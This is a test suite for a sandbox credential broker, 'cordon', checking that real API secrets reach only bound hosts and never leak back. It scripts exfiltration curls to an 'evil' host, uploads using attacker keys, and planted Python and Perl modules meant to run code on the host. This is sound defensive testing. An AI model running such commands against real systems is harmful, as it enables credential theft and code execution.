/**
 * Credential brokering and token verification (credentials.broker;
 * src/network/broker.ts, credential-sources.ts, http-proxy.ts) attacked from
 * inside real cordon with real clients against the world's TLS servers, as
 * root and as an unprivileged user. The command holds a session token; the
 * bound host gets the real value, in its header only, over TLS cordon
 * verified; the real value does not come back in responses; a foreign key on
 * a bound host (the approved-domain attack) and the token anywhere else are
 * refused. Verdicts come from what the servers recorded.
 */
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { chownSync, existsSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { netRunner, netWorld, RUNNERS } from '../../helpers/net-run.js';
import { worldSkipReason, type World, type WorldRecord } from '../../world/world.js';

const skip = worldSkipReason();
const T = { timeout: 60_000 };
/** The real credential, in cordon's environment only. */
const REAL = 'sk-live-REAL0secret0value0that0must0stay0on0the0host';

describe('brokered credentials', { skip }, () => {
  let w: World;
  let root: string;
  netWorld('cordon-cred-', (world, dir) => { w = world; root = dir; });
  before(() => {
    // A repository behind authentication, for git's Basic credentials (the world serves /private/ only to a request with a credential).
    const work = join(root, 'git-work');
    mkdirSync(work);
    const g = (cwd: string, ...a: string[]) => {
      const r = spawnSync('git', ['-c', 'user.email=t@example.invalid', '-c', 'user.name=t', '-c', 'init.defaultBranch=main', ...a], { cwd, encoding: 'utf8' });
      assert.equal(r.status, 0, r.stderr);
      return r.stdout;
    };
    g(work, 'init', '-q');
    writeFileSync(join(work, 'README'), 'private\n');
    g(work, 'add', 'README');
    g(work, 'commit', '-qm', 'private commit');
    g(root, 'clone', '-q', '--bare', work, join(w.filesDir, 'private.git'));
    g(join(w.filesDir, 'private.git'), 'update-server-info');
  });

  /** A shell line that says, for each file, whether it holds the real value, the command's token, or neither. */
  const whichIn = (files: readonly string[]) => `for f in ${files.join(' ')}; do if grep -q REAL0secret $f; then echo "$f real"; elif grep -q "$SVC_TOKEN" $f; then echo "$f token"; else echo "$f neither"; fi; done`;
  const requests = async (host: string, pred: (r: WorldRecord) => boolean = () => true) => { await w.settle(); return w.records(w.host(host)).filter((x) => x.event === 'request' && pred(x)); };

  for (const runner of RUNNERS) {
    const { who, as } = runner;
    const run = netRunner(() => w, () => root, runner);
    /** Runs `script` under cordon: api's credential brokered (Bearer in Authorization unless `broker` says otherwise), the real value in cordon's environment. */
    const cordon = (script: string, opts: { broker?: object; env?: Record<string, string>; files?: Record<string, string>; settings?: { network: object } } = {}) => {
      const api = w.host('api').fqdn;
      return run({
        network: opts.settings?.network ?? { allowedDomains: [api, w.host('evil').fqdn], tlsTerminate: { extraCaCertPaths: [w.caCert] } },
        credentials: { broker: [{ env: 'SVC_TOKEN', hosts: [api], header: 'authorization', scheme: 'Bearer', ...opts.broker }] },
      }, script, { files: opts.files ?? {}, env: { SVC_TOKEN: REAL, ...opts.env } });
    };

    describe(`as ${who}`, () => {
      it('the command holds a token shaped like the credential; the bound host gets the real value in its header only', T, async () => {
        const api = w.host('api');
        w.clearRecords();
        const r = await cordon([
          'printf "token=%s\\n" "$SVC_TOKEN"',
          'if grep -q "REAL0secret" /proc/self/environ /proc/1/environ /proc/1/cmdline 2>/dev/null || env | grep -q REAL0secret; then echo "real inside"; fi',
          `curl -sS -o /dev/null -w '%{http_code}\\n' -H "Authorization: Bearer $SVC_TOKEN" https://${api.fqdn}/with-token`,
        ].join('\n'));
        const token = /^token=(\S+)$/m.exec(r.stdout)?.[1];
        assert.ok(token, r.stdout + r.stderr);
        assert.notEqual(token, REAL);
        assert.ok(token.startsWith('sk-live-') && token.length === REAL.length, `shaped like the real one: ${token}`);
        assert.doesNotMatch(r.stdout, /real inside/);
        assert.match(r.stdout, /^200$/m, r.stderr);
        const reqs = await requests('api');
        assert.deepEqual(reqs.map((x) => [x.path, x.headers?.authorization]), [['/with-token', `Bearer ${REAL}`]]);
        assert.ok(r.events.some((e) => e.type === 'net.allowed' && e.via === 'https' && e.credentials?.[0] === 'SVC_TOKEN'));
        assert.ok(!r.log.includes(REAL), 'no event carries the real value');
      });

      it('the real value does not come back: responses that echo it (identity, chunked, gzip, deflate, br) carry the token; one cordon cannot open is not sent', T, async () => {
        const api = w.host('api');
        const r = await cordon([
          'for e in identity chunked gzip deflate br; do',
          `  curl -sS --compressed -H "Authorization: Bearer $SVC_TOKEN" "https://${api.fqdn}/reflect?encoding=$e" > "out-$e"`,
          '  if grep -q "REAL0secret" "out-$e"; then echo "$e: real"; elif grep -q "$SVC_TOKEN" "out-$e"; then echo "$e: token"; else echo "$e: neither"; cat "out-$e"; fi',
          'done',
          `curl -sS -o /dev/null -w '%{http_code}\\n' -H "Authorization: Bearer $SVC_TOKEN" "https://${api.fqdn}/reflect?encoding=zstd"`,
          // gzip as a transfer coding: Node's parser takes off only the chunked framing, so the body would pass compressed.
          `curl -sS -o out-te -w '%{http_code}\\n' -H "Authorization: Bearer $SVC_TOKEN" "https://${api.fqdn}/reflect?encoding=te-gzip"`,
          // The value in the status line, and in an encoding's name that the refusal quotes.
          `curl -sS -D head-reason -o /dev/null -H "Authorization: Bearer $SVC_TOKEN" "https://${api.fqdn}/reflect?encoding=reason"`,
          `curl -sS -o out-named -w '%{http_code}\\n' -H "Authorization: Bearer $SVC_TOKEN" "https://${api.fqdn}/reflect?encoding=named"`,
          'for f in out-te head-reason out-named; do if grep -q "REAL0secret" "$f"; then echo "$f: real"; elif grep -q "$SVC_TOKEN" "$f"; then echo "$f: token"; else echo "$f: neither"; fi; done',
        ].join('\n'));
        assert.equal(r.stdout, 'identity: token\nchunked: token\ngzip: token\ndeflate: token\nbr: token\n502\n502\n502\nout-te: neither\nhead-reason: token\nout-named: neither\n', r.stderr);
        assert.equal(r.events.filter((e) => e.type === 'net.refused' && e.reason === 'unscrubbable-response').length, 3, r.log);
        assert.ok(!r.log.includes(REAL), 'no event quotes the real value');
      });

      it('the approved-domain attack: project data POSTed to the bound host with a foreign key, in any credential position, never leaves', T, async () => {
        const api = w.host('api');
        w.clearRecords();
        const foreign = 'sk-attacker-0000000000000000000000000000';
        const tries = [
          `-H "Authorization: Bearer ${foreign}"`,
          `-H "x-api-key: ${foreign}"`,
          `-u "attacker:${foreign}"`,
          `-H "Cookie: session=${foreign}"`,
          `-H "Authorization: Bearer $SVC_TOKEN" -H "x-goog-api-key: ${foreign}"`,
        ];
        const r = await cordon([
          ...tries.map((t) => `curl -sS -o /dev/null -w '%{http_code} ' ${t} --data-binary @data.txt https://${api.fqdn}/upload`),
          `curl -sS -o /dev/null -w '%{http_code} ' --data-binary @data.txt "https://${api.fqdn}/upload?api_key=${foreign}"`,
          'echo',
        ].join('\n'), { files: { 'data.txt': 'the project\'s private data\n' } });
        assert.equal(r.stdout, '403 403 403 403 403 403 \n', r.stderr);
        assert.deepEqual(await requests('api'), [], 'the recording server received nothing');
        assert.equal(r.events.filter((e) => e.type === 'request.refused' && e.reason === 'foreign-credential').length, 6, r.log);
      });

      it('the token is never put in anywhere else: a body, another header, another host, plain HTTP', T, async () => {
        const api = w.host('api');
        const evil = w.host('evil');
        w.clearRecords();
        const r = await cordon([
          // A model that repeats its prompt: the token in the body reaches the host as the token.
          `curl -sS -H "Authorization: Bearer $SVC_TOKEN" --data-binary "prompt with $SVC_TOKEN inside" https://${api.fqdn}/reflect | grep -c "prompt with $SVC_TOKEN"`,
          `curl -sS -o /dev/null -w '%{http_code}\\n' -H "x-api-key: $SVC_TOKEN" https://${api.fqdn}/other-header`,
          `curl -sS -o /dev/null -w '%{http_code}\\n' -H "Authorization: Bearer $SVC_TOKEN" https://${evil.fqdn}/exfil`,
          `curl -sS -o /dev/null -w '%{http_code}\\n' "https://${evil.fqdn}/exfil?t=$SVC_TOKEN"`,
          `curl -sS -o /dev/null -w '%{http_code}\\n' -H "Authorization: Bearer $SVC_TOKEN" http://${api.fqdn}/cleartext`,
        ].join('\n'));
        assert.equal(r.stdout, '1\n403\n403\n403\n403\n', r.stderr);
        const reqs = await requests('api');
        assert.deepEqual(reqs.map((x) => x.path), ['/reflect'], 'only the first request reached the host');
        assert.equal(reqs[0]!.headers?.authorization, `Bearer ${REAL}`);
        assert.deepEqual(await requests('evil'), []);
        const reasons = r.events.filter((e) => e.type === 'request.refused').map((e) => e.reason);
        assert.deepEqual(reasons, ['foreign-credential', 'credential-to-unbound-host', 'credential-to-unbound-host', 'credential-in-cleartext']);
      });

      it('a WebSocket to a bound host: the real value goes in, and what the server reflects (its 101 head, its messages, one split over two frames) comes back as the token, each message at once; an upgrade it does not switch is not passed on', T, async () => {
        const api = w.host('api');
        w.clearRecords();
        const py = [
          'import os, socket, ssl, struct',
          'tok = os.environ["SVC_TOKEN"].encode()',
          'def upgrade(path, plain=False):',
          '    s = socket.create_connection(("127.0.0.1", 3128))',
          `    port = 80 if plain else 443`,
          `    s.sendall(b"CONNECT ${api.fqdn}:%d HTTP/1.1\\r\\nHost: ${api.fqdn}:%d\\r\\n\\r\\n" % (port, port))`,
          '    while not s.recv(4096).endswith(b"\\r\\n\\r\\n"): pass',
          `    t = s if plain else ssl.create_default_context().wrap_socket(s, server_hostname="${api.fqdn}")`,
          `    t.sendall(b"GET " + path + b" HTTP/1.1\\r\\nHost: ${api.fqdn}\\r\\n" + (b"" if plain else b"Authorization: Bearer " + tok + b"\\r\\n") + b"Upgrade: websocket\\r\\nConnection: Upgrade\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Extensions: permessage-deflate\\r\\n\\r\\n")`,
          '    t.settimeout(3)',
          '    head = b""',
          '    try:',
          '        while b"\\r\\n\\r\\n" not in head:',
          '            c = t.recv(1)',
          '            if not c: break',
          '            head += c',
          '    except socket.timeout: pass',
          '    return t, head',
          'def exact(t, n):',
          '    b = b""',
          '    while len(b) < n:',
          '        c = t.recv(n - len(b))',
          '        if not c: raise EOFError',
          '        b += c',
          '    return b',
          'def message(t):',
          '    data = b""',
          '    while True:',
          '        h = exact(t, 2)',
          '        n = h[1] & 0x7f',
          '        if n == 126: n = struct.unpack(">H", exact(t, 2))[0]',
          '        elif n == 127: n = struct.unpack(">Q", exact(t, 8))[0]',
          '        data += exact(t, n)',
          '        if h[0] & 0x80: return data',
          'def said(b): return "real" if b"REAL0secret" in b else "token" if tok in b else "neither"',
          'for path in (b"/ws-frames", b"/no-switch", b"/ws-frames?x=1#&access_token=sk-attacker-key"):',
          '    t, head = upgrade(path)',
          '    out = [head.split(b"\\r\\n")[0].decode(), said(head)]',
          '    if b" 101 " in head:',
          '        out += [said(message(t)), said(message(t))]',
          '        # Ends like the start of the real value: it must come back whole, at once (the server waits for the next).',
          '        t.sendall(bytes([0x81, 0x80 | 11]) + b"\\0\\0\\0\\0" + b"tail sk-liv")',
          '        out.append(message(t).decode())',
          '    print(path.decode(), *out)',
          '# Plain ws:// in a tunnel to the bound host: its messages are scrubbed too.',
          't, head = upgrade(b"/ws-frames", plain=True)',
          'print("plain", head.split(b"\\r\\n")[0].decode())',
        ].join('\n');
        const r = await cordon('python3 ws.py', { files: { 'ws.py': py } });
        assert.equal(r.stdout, [
          '/ws-frames HTTP/1.1 101 Switching Protocols token token token tail sk-liv',
          '/no-switch HTTP/1.1 502 Bad Gateway neither',
          '/ws-frames?x=1#&access_token=sk-attacker-key HTTP/1.1 101 Switching Protocols token token token tail sk-liv',
          'plain HTTP/1.1 101 Switching Protocols',
          '',
        ].join('\n'), r.stderr);
        const ups = await requests('api');
        // What was judged is what is sent: the fragment (where a foreign key hid from the query check) never goes upstream.
        assert.deepEqual(ups.map((x) => [x.path, x.headers?.authorization, x.headers?.['sec-websocket-extensions']]), [['/ws-frames', `Bearer ${REAL}`, undefined], ['/no-switch', `Bearer ${REAL}`, undefined], ['/ws-frames?x=1', `Bearer ${REAL}`, undefined], ['/ws-frames', undefined, undefined]]);
      });

      it('what a bound host gives back is scrubbed on every way back: plain HTTP (also through the relay), a header\'s name, and a Range it would answer in pieces is never sent', T, async () => {
        const api = w.host('api');
        w.clearRecords();
        const r = await cordon([
          `curl -sS -o /dev/null -H "Authorization: Bearer $SVC_TOKEN" https://${api.fqdn}/remember`,
          // Later, over plain HTTP (the relay's path, and a CONNECT tunnel's): the value it kept.
          `curl -sS http://${api.fqdn}/recall > plain.txt`,
          `curl -sS -p -x http://127.0.0.1:3128 http://${api.fqdn}/recall > tunnel.txt`,
          `curl -sS -D headers.txt -o /dev/null -H "Authorization: Bearer $SVC_TOKEN" "https://${api.fqdn}/reflect?encoding=header-name"`,
          `curl -sS -o /dev/null -w '%{http_code}\\n' -r 10-40 -H "Authorization: Bearer $SVC_TOKEN" https://${api.fqdn}/reflect`,
          whichIn(['plain.txt', 'tunnel.txt', 'headers.txt']),
        ].join('\n'));
        assert.equal(r.stdout, '200\nplain.txt token\ntunnel.txt token\nheaders.txt token\n', r.stderr);
        const reflected = (await requests('api')).filter((x) => String(x.path).startsWith('/reflect'));
        assert.deepEqual(reflected.map((x) => x.headers?.range), [undefined, undefined], 'no Range reached the bound host');
      });

      it('the same server under another port, name or address is scrubbed too; a part of a response is never passed on', T, async () => {
        const api = w.host('api');
        w.clearRecords();
        const r = await cordon([
          `curl -sS -o /dev/null -H "Authorization: Bearer $SVC_TOKEN" https://${api.fqdn}/remember`,
          // Bound on 443 only; the server kept the value and gives it back on port 80, under an alias, at its address.
          `curl -sS http://${api.fqdn}/recall > port.txt`,
          `curl -sS http://${api.fqdn4}/recall > alias.txt`,
          `curl -sS http://${api.ipv4}/recall > literal.txt`,
          // Request-Range (Apache reads it as Range) is not sent; a server that answers a part anyway is not passed on.
          `curl -sS -o /dev/null -w '%{http_code}\\n' -H "Request-Range: bytes=0-20" -H "Authorization: Bearer $SVC_TOKEN" https://${api.fqdn}/reflect`,
          `curl -sS -o /dev/null -w '%{http_code}\\n' -H "Authorization: Bearer $SVC_TOKEN" https://${api.fqdn}/part`,
          whichIn(['port.txt', 'alias.txt', 'literal.txt']),
          // Another port of the port-scoped binding stays free for what cannot be scrubbed (SSH, say): an opaque tunnel.
          `python3 -c 'import socket; s = socket.create_connection(("127.0.0.1", 3128)); s.sendall(b"CONNECT ${api.fqdn}:${api.ports.tcp} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"); h = s.recv(4096); s.sendall(b"SSH-2.0-x\\r\\n"); print(h.split(b"\\r\\n")[0].decode(), s.recv(100).decode().strip())'`,
        ].join('\n'), {
          broker: { hosts: [`${api.fqdn}:443`] },
          settings: { network: { allowedDomains: [api.fqdn, api.fqdn4, api.ipv4], tlsTerminate: { extraCaCertPaths: [w.caCert] } } },
        });
        assert.equal(r.stdout, '200\n502\nport.txt token\nalias.txt token\nliteral.txt token\nHTTP/1.1 200 Connection Established SSH-2.0-x\n', r.stderr);
        assert.deepEqual((await requests('api')).filter((x) => x.headers?.['request-range'] !== undefined), [], 'no Request-Range reached the bound host');
        assert.ok(r.events.some((e) => e.type === 'net.refused' && e.reason === 'unscrubbable-response'), r.log);
      });

      it('a wildcard binding: the server is known by every address its name gave, so the other family\'s alias is scrubbed too', T, async () => {
        const api = w.host('api');
        w.clearRecords();
        const r = await cordon([
          // www.api resolves to both families; it is dialed at one of them.
          `curl -sS -o /dev/null -H "Authorization: Bearer $SVC_TOKEN" https://${api.www}/remember`,
          `curl -sS http://${api.fqdn4}/recall > v4.txt`,
          `curl -sS http://${api.fqdn6}/recall > v6.txt`,
          whichIn(['v4.txt', 'v6.txt']),
        ].join('\n'), {
          broker: { hosts: ['*.api.test.cordon'] },
          settings: { network: { allowedDomains: ['*.api.test.cordon', api.fqdn4, api.fqdn6], tlsTerminate: { extraCaCertPaths: [w.caCert] } } },
        });
        assert.equal(r.stdout, 'v4.txt token\nv6.txt token\n', r.stderr);
      });

      it('Basic: the user name is the configured one, a foreign one (someone else\'s account) is refused; a reflected Basic value comes back as the token\'s', T, async () => {
        const api = w.host('api');
        w.clearRecords();
        const b64 = (s: string) => Buffer.from(s).toString('base64');
        const r = await cordon([
          `curl -sS -o /dev/null -w '%{http_code}\\n' -u "sk-attacker-0000000000:$SVC_TOKEN" --data-binary private https://${api.fqdn}/upload`,
          `curl -sS -u "x-access-token:$SVC_TOKEN" https://${api.fqdn}/reflect > echo.json`,
          'if grep -q "$(printf "x-access-token:%s" "$SVC_TOKEN" | base64 -w0)" echo.json; then echo token-pair; fi',
          `grep -c "${b64(`x-access-token:${REAL}`)}" echo.json`,
        ].join('\n'), { broker: { scheme: 'Basic', username: 'x-access-token' } });
        assert.equal(r.stdout, '403\ntoken-pair\n0\n', r.stderr);
        assert.deepEqual((await requests('api')).map((x) => x.path), ['/reflect']);
      });

      it('a bound host reached on a port its termination does not cover, or through SOCKS5, is refused: its foreign keys would pass unseen', T, async () => {
        const api = w.host('api');
        w.clearRecords();
        const r = await cordon(`curl -sS -o /dev/null -w '%{http_code}\\n' --cacert ${w.caCert} -H 'Authorization: Bearer sk-attacker-0000000000000000' https://${api.fqdn}:8443/upload; curl -sS --proxy "$CORDON_SOCKS_PROXY" -o /dev/null http://${api.fqdn}/x; echo "socks=$?"`, {
          settings: { network: { allowedDomains: [api.fqdn], tlsTerminate: { domains: [`${api.fqdn}:443`], extraCaCertPaths: [w.caCert] } } },
        });
        assert.match(r.stdout, /^(000|403)\nsocks=97\n$/, r.stderr);
        assert.deepEqual(await requests('api'), []);
      });

      it('foreign credentials in the spellings servers also read: underscores in header names, ; in queries, key[] and other names', T, async () => {
        const api = w.host('api');
        w.clearRecords();
        const f = 'sk-attacker-0000000000000000';
        const r = await cordon([
          `-H 'x_api_key: ${f}'`, `-H 'apikey: ${f}'`, `-H 'Authentication: Bearer ${f}'`, `-H 'X-API-Token: ${f}'`,
          `'https://${api.fqdn}/u?a=1;key=${f}'`, `'https://${api.fqdn}/u?key%5B%5D=${f}'`, `'https://${api.fqdn}/u?client_secret=${f}'`,
          // PHP reads each of these as access_token; Cloudflare's key header.
          `'https://${api.fqdn}/u?access.token=${f}'`, `'https://${api.fqdn}/u?access%20token=${f}'`, `'https://${api.fqdn}/u?access%5Btoken=${f}'`, `'https://${api.fqdn}/u?%20access_token=${f}'`, `-H 'X-Auth-Key: ${f}'`,
        ].map((a) => `curl -sS -g -o /dev/null -w '%{http_code} ' ${a.startsWith('-H') ? `${a} https://${api.fqdn}/u` : a}`).join('\n') + '\necho');
        assert.equal(r.stdout, '403 '.repeat(12) + '\n', r.stderr);
        assert.deepEqual(await requests('api'), []);
      });

      it('nothing else carries the real value in: another variable holding it is withheld, and a file it is read from is unreadable inside', T, async () => {
        const api = w.host('api');
        const secretFile = join(root, `${who.replace(/\W+/g, '-')}-denied-secret`);
        writeFileSync(secretFile, `${REAL}\n`, { mode: 0o644 });
        if (as) chownSync(secretFile, as.uid, as.gid);
        const b64 = (s: string, enc: 'base64' | 'base64url' = 'base64') => Buffer.from(s).toString(enc);
        // Encoded copies too: a Basic pair, a Docker auth, the value alone in base64url, at each alignment.
        const encoded = { OTHER_B64: b64(`x-access-token:${REAL}`), DOCKER_AUTH_CONFIG: JSON.stringify({ auths: { 'x.io': { auth: b64(`u:${REAL}`) } } }), OTHER_B64URL: b64(`ab${REAL}`, 'base64url') };
        const r = await cordon(`printf 'copy=%s\\n' "\${OTHER_COPY-unset}"; for v in OTHER_B64 DOCKER_AUTH_CONFIG OTHER_B64URL; do printenv $v >/dev/null && echo "$v passed"; done; cat ${secretFile} 2>/dev/null | grep -c REAL0secret; curl -sS -o /dev/null -w '%{http_code}\\n' -H "Authorization: Bearer $SVC_TOKEN" https://${api.fqdn}/f`, {
          broker: { from: { file: secretFile } }, env: { OTHER_COPY: `prefix ${REAL} suffix`, ...encoded },
        });
        assert.equal(r.stdout, 'copy=unset\n0\n200\n', r.stderr);
        // A short credential (11 characters) too, at each of base64's three alignments.
        const short = 'Pa55w0rd-xy';
        const copies = { S0: b64(short), S1: b64(`u:${short}`), S2: b64(`us:${short}`), S3: b64(`x-access-token:${short}`, 'base64url') };
        const s2 = await cordon(`for v in S0 S1 S2 S3; do printenv $v >/dev/null && echo "$v passed"; done; echo done`, { env: { SVC_TOKEN: short, ...copies } });
        assert.equal(s2.stdout, 'done\n', s2.stderr);
      });

      it('git over HTTPS with the token as its password (Basic): the server gets the real one, the clone works', T, async () => {
        const api = w.host('api');
        w.clearRecords();
        const r = await cordon(`git clone -q "https://x-access-token:$SVC_TOKEN@${api.fqdn}/private/private.git" c && git -C c log -1 --format=%s`, {
          broker: { scheme: 'Basic', username: 'x-access-token' },
          env: { GIT_CONFIG_NOSYSTEM: '1', GIT_TERMINAL_PROMPT: '0' },
        });
        assert.equal(r.stdout, 'private commit\n', r.stderr);
        const authed = (await requests('api')).filter((x) => x.headers?.authorization);
        assert.ok(authed.length > 0);
        for (const x of authed) assert.equal(Buffer.from(String(x.headers!.authorization).replace(/^Basic /, ''), 'base64').toString(), `x-access-token:${REAL}`);
      });

      it('git push over HTTPS (smart HTTP) with the token as its password: the push lands, the server saw only the real one', T, async () => {
        const api = w.host('api');
        w.clearRecords();
        const branch = `pushed-${who.replace(/\W+/g, '-')}`;
        const r = await cordon([
          `git clone -q "https://x-access-token:$SVC_TOKEN@${api.fqdn}/git/private.git" c`,
          'cd c && git -c user.email=t@example.invalid -c user.name=t commit -q --allow-empty -m "pushed through cordon"',
          `git push -q origin HEAD:refs/heads/${branch} && echo pushed`,
        ].join(' && '), { broker: { scheme: 'Basic', username: 'x-access-token' }, env: { GIT_CONFIG_NOSYSTEM: '1', GIT_TERMINAL_PROMPT: '0' } });
        assert.equal(r.stdout, 'pushed\n', r.stderr);
        const log = spawnSync('git', ['--git-dir', join(w.filesDir, 'private.git'), 'log', '-1', '--format=%s', branch], { encoding: 'utf8' });
        assert.equal(log.stdout, 'pushed through cordon\n', log.stderr);
        const pushes = (await requests('api')).filter((x) => x.path?.includes('git-receive-pack') && x.headers?.authorization);
        assert.ok(pushes.length > 0, 'the push was authenticated');
        for (const x of pushes) assert.equal(Buffer.from(String(x.headers!.authorization).replace(/^Basic /, ''), 'base64').toString(), `x-access-token:${REAL}`);
      });

      it('npm publish with the registry token brokered: npm sends the token from .npmrc, the registry gets the real one', T, async () => {
        const api = w.host('api');
        w.clearRecords();
        const r = await cordon([
          `printf '{"name":"cordon-pub-fixture","version":"1.0.0"}\\n' > package.json`,
          `printf '//${api.fqdn}/publish/:_authToken=\${SVC_TOKEN}\\n' > .npmrc`,
          `npm publish --registry https://${api.fqdn}/publish/ 2>&1 | grep -o '+ cordon-pub-fixture@1.0.0'`,
        ].join('\n'), { env: { NPM_CONFIG_USERCONFIG: '.npmrc', NPM_CONFIG_GLOBALCONFIG: '/dev/null', NPM_CONFIG_UPDATE_NOTIFIER: 'false' } });
        assert.equal(r.stdout, '+ cordon-pub-fixture@1.0.0\n', r.stderr);
        const puts = (await requests('api')).filter((x) => x.method === 'PUT');
        assert.deepEqual(puts.map((x) => [x.path, x.headers?.authorization]), [['/publish/cordon-pub-fixture', `Bearer ${REAL}`]]);
      });

      it('gh with its token brokered (GH_ENTERPRISE_TOKEN, "token" scheme): its API call goes out with the real one, and the user it reflects back carries the token', T, async () => {
        const api = w.host('api');
        w.clearRecords();
        const r = await cordon([
          'export GH_CONFIG_DIR="$PWD/.gh" GH_NO_UPDATE_NOTIFIER=1 GH_PROMPT_DISABLED=1',
          `gh api user --hostname ${api.fqdn} > out.json && echo called`,
          'grep -c "token $GH_ENTERPRISE_TOKEN" out.json',
          'grep -c REAL0secret out.json || true',
        ].join('\n'), { broker: { env: 'GH_ENTERPRISE_TOKEN', header: 'authorization', scheme: 'token' }, env: { GH_ENTERPRISE_TOKEN: REAL } });
        assert.equal(r.stdout, 'called\n1\n0\n', r.stderr);
        const reqs = await requests('api');
        assert.deepEqual(reqs.map((x) => [x.path, x.headers?.authorization]), [['/api/v3/user', `token ${REAL}`]]);
        assert.ok(r.events.some((e) => e.type === 'net.allowed' && e.via === 'https' && e.credentials?.[0] === 'GH_ENTERPRISE_TOKEN'));
      });

      it('a credential read from a file or a program on the host; a program that fails stops cordon without showing what it printed', T, async () => {
        const api = w.host('api');
        const secretFile = join(root, `${who.replace(/\W+/g, '-')}-secret`);
        writeFileSync(secretFile, 'sk-file-0123456789abcdef0123456789abcdef\n', { mode: 0o600 });
        if (as) chownSync(secretFile, as.uid, as.gid);
        w.clearRecords();
        const fromFile = await cordon(`curl -sS -o /dev/null -w '%{http_code}\\n' -H "Authorization: Bearer $SVC_TOKEN" https://${api.fqdn}/file`, { broker: { from: { file: secretFile } } });
        assert.equal(fromFile.stdout, '200\n', fromFile.stderr);
        const fromProgram = await cordon(`curl -sS -o /dev/null -w '%{http_code}\\n' -H "Authorization: Bearer $SVC_TOKEN" https://${api.fqdn}/program`, { broker: { from: { command: ['/bin/echo', 'sk-prog-0123456789abcdef0123456789abcdef'] } } });
        assert.equal(fromProgram.stdout, '200\n', fromProgram.stderr);
        assert.deepEqual((await requests('api')).map((x) => x.headers?.authorization), ['Bearer sk-file-0123456789abcdef0123456789abcdef', 'Bearer sk-prog-0123456789abcdef0123456789abcdef']);
        const failing = await cordon('echo ran', { broker: { from: { command: ['/bin/sh', '-c', 'echo sk-leaked-in-output; exit 3'] } } });
        assert.notEqual(failing.status, 0);
        assert.doesNotMatch(failing.stdout, /ran/);
        assert.match(failing.stderr, /credentials\.broker\[0\]\.from\.command: \/bin\/sh exited with 3; what it printed is not shown/);
        assert.doesNotMatch(failing.stderr, /sk-leaked/);
      });

      it('a program a sandboxed command could have written is never run on the host: not found on PATH (as under npx or a virtualenv), not named by its path', T, async () => {
        // One state directory for both runs: the second knows where the first could write.
        const state = join(root, `${who.replace(/\W+/g, '-')}-state`);
        mkdirSync(state);
        if (as) chownSync(state, as.uid, as.gid);
        // Where the program, run as the runner, could leave its mark.
        const marks = join(root, `${who.replace(/\W+/g, '-')}-marks`);
        mkdirSync(marks);
        if (as) chownSync(marks, as.uid, as.gid);
        const ran = join(marks, 'PLANTED-RAN');
        const plant = await cordon(`mkdir -p tools && printf '#!/bin/sh\\ntouch ${ran}\\necho sk-planted-0123456789abcdef0123\\n' > tools/fetch-token && chmod +x tools/fetch-token && printf 'import os\\nos.system("touch ${ran}-site")\\n' > tools/sitecustomize.py && printf 'system("touch ${ran}-perl"); 1;\\n' > tools/Evil.pm && pwd`, { env: { XDG_STATE_HOME: state } });
        assert.equal(plant.status, 0, plant.stderr);
        const tools = join(plant.stdout.trim(), 'tools');
        for (const command of [['fetch-token'], [join(tools, 'fetch-token')]]) {
          const r = await cordon('echo ran', { broker: { from: { command } }, env: { XDG_STATE_HOME: state, PATH: `${tools}:${process.env.PATH ?? '/usr/bin:/bin'}` } });
          assert.notEqual(r.status, 0, `${command[0]}: ${r.stdout}`);
          assert.doesNotMatch(r.stdout, /ran/);
          assert.match(r.stderr, new RegExp(`credentials\\.broker\\[0\\]\\.from\\.command: ${command[0]} is ${tools}/fetch-token, in ${plant.stdout.trim()}, where a sandboxed command could have written it`));
        }
        assert.ok(!existsSync(ran), 'the planted program ran on the host');
        // A system program run in the project would find what a command left there (python3 -m: the current directory first).
        const module = `import os\nos.system("touch ${ran}-module")\nprint("sk-module-0123456789abcdef0123")\n`;
        const py = await cordon('echo ran', { broker: { from: { command: ['/usr/bin/python3', '-m', 'keyring_x'] } }, files: { 'keyring_x.py': module }, env: { XDG_STATE_HOME: state } });
        assert.notEqual(py.status, 0, py.stdout);
        assert.match(py.stderr, /from\.command: \/usr\/bin\/python3 exited with 1/);
        assert.ok(!existsSync(`${ran}-module`), 'a module left in the project ran on the host');
        // PERL5OPT with -I into where a command wrote: perl would load a module of the command's (-MEvil).
        const perl = await cordon('echo ran', { broker: { from: { command: ['/usr/bin/perl', '-e', 'print "sk-perl-0123456789abcdef0123\\n"'] } }, env: { XDG_STATE_HOME: state, PERL5OPT: `-I${tools} -MEvil` } });
        assert.equal(perl.stdout, 'ran\n', perl.stderr);
        assert.ok(!existsSync(`${ran}-perl`), 'a Perl module the command wrote ran on the host');
        // PYTHONPATH into where a command wrote: a system python would run its sitecustomize.py first.
        const viaPath = await cordon('echo ran', { broker: { from: { command: ['/usr/bin/python3', '-c', 'print("sk-site-0123456789abcdef0123")'] } }, env: { XDG_STATE_HOME: state, PYTHONPATH: tools } });
        assert.equal(viaPath.stdout, 'ran\n', viaPath.stderr);
        assert.ok(!existsSync(`${ran}-site`), 'a sitecustomize.py the command wrote ran on the host');
        // A program of the system's, named as users name it, still works with that PATH.
        const system = await cordon('echo ran', { broker: { from: { command: ['echo', 'sk-echo-0123456789abcdef0123'] } }, env: { XDG_STATE_HOME: state, PATH: `${tools}:${process.env.PATH ?? '/usr/bin:/bin'}` } });
        assert.equal(system.stdout, 'ran\n', system.stderr);
      });
    });
  }
});
